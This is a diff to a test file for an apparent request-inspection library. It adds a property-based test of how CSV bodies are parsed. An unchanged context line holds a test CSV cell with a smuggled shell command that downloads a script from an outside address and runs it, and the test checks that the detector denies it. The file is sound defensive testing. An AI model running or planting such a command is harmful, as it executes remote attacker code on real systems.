@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import type { BodyContent, Decision } from "@parapet/core";
+import fc from "fast-check";
 import { sqliDetector } from "../src/detectors/sqli/index.js";
 import { collectCandidates } from "../src/index.js";
 import { resolveShieldOptions } from "../src/options.js";
@@ -70,6 +71,18 @@ describe("CSV bodies are read cell by cell", () => {
     const decision = await upload(part(`${CONTACTS}5,Eve,e@x.io,x,"$(curl http://203.0.113.9/x|sh)",0\n`), type);
     assert.equal(decision.conclusion, "DENY");
     assert.match(decision.reason.message, /in body\.contacts\.5\.notes/);
+  });
+
+  it("reads any text without throwing, within the value limit", () => {
+    const csvish = fc.stringMatching(/^[a-z0-9 ,;\t"'\r\n=-]{0,400}$/);
+    fc.assert(
+      fc.property(csvish, (text) => {
+        const body: BodyContent = { bytes: new TextEncoder().encode(text), truncated: false, contentType: "text/csv" };
+        const { candidates } = collectCandidates(request, body, limits);
+        assert.ok(candidates.length <= limits.maxValues);
+      }),
+      { numRuns: 500 },
+    );
   });
 
   it("keeps an unterminated quote's rest as one field", () => {
